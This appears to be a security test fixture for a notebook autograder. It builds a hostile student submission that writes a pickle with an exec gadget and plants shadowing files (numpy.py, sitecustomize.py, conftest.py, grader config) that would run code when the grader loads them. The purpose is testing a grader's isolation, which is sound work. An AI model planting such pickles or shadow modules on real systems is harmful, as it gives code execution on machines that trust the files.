"""Leave a pickle and a module for a trusting reader in the kernel's own folder."""

from tests.attacks.notebook import NotebookNode, first

ROW = "Machine: write what is not theirs"
STOCK = "nothing"
HOSTILE = r"""
evil = "c__builtin__\nexec\n(S'open(\"@OUTSIDE@/trophy-@STUDENT@\", \"w\")'\ntR."
for name in ('result.pkl', 'numpy.py', 'sitecustomize.py', 'conftest.py', 'nbgrader_config.py', 'checks.json'):
    open(name, 'w').write(evil if name.endswith('pkl') else "open('@OUTSIDE@/trophy-@STUDENT@', 'w')")
"""


def submission(blank: NotebookNode) -> NotebookNode:
    """The hostile notebook."""
    return first(blank, HOSTILE)
